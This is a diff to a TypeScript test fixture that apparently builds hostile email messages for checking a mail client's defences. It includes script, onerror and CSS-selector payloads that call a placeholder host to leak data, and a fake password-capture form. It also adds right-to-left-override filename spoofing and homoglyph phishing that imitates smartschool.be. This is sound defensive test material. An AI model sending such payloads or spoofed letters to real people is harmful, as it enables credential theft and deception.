@@ -7,6 +7,8 @@ export const SCRIPT = `<script>document.title='taken';fetch('${ELSEWHERE}/s')</s
 export const IMAGE = `"><img src=${ELSEWHERE}/i onerror="alert(1)">`
 export const STYLE = `<style>@import url(${ELSEWHERE}/c);input[value^=a]{background:url(${ELSEWHERE}/a)}</style>`
 
+const encoded = (words: string): string => `=?utf-8?B?${Buffer.from(words).toString('base64')}?=`
+
 const part = (type: string, body: string, more = '') => `--m\r\nContent-Type: ${type}\r\n${more}\r\n${body}\r\n`
 const letterOf = (head: readonly string[], html: string, more: string): Buffer =>
   Buffer.from(
@@ -42,12 +44,17 @@ export const hostileLetters = ({ from, to, own = '' }: Writer): Readonly<Record<
         `<form action="${ELSEWHERE}/p"><input name=password autofocus></form><object data="${ELSEWHERE}/o"></object><link rel=stylesheet href="${ELSEWHERE}/l">`,
     ),
     'turned letters': letter(
-      [
-        `From: =?utf-8?B?${Buffer.from('\u202eessalC slE\u202c').toString('base64')}?= <${from}>`,
-        TO,
-        `Subject: =?utf-8?B?${Buffer.from('rekening\u202efdp.exe').toString('base64')}?=`,
-      ],
+      [`From: ${encoded('\u202eessalC slE\u202c')} <${from}>`, TO, `Subject: ${encoded('rekening\u202efdp.exe')}`],
       '<p dir=rtl>\u202etxt</p>',
+    ),
+    'letters of another alphabet': letter(
+      [
+        `From: ${encoded('\u0415ls Cl\u0430es')} <${from}>`,
+        TO,
+        `Reply-To: els.cl\u0430es@${from.slice(from.indexOf('@') + 1)}, els@xn--schol-9uf.example`,
+        `Subject: ${encoded('Meld je \u0430an op sm\u0430rtschool.be')}`,
+      ],
+      `<a href="${ELSEWHERE}/h">https://www.sm\u0430rtschool.be</a> <a href="http://sm\u0430rtschool.be/">hier</a>`,
     ),
     'our own words': letter(
       [
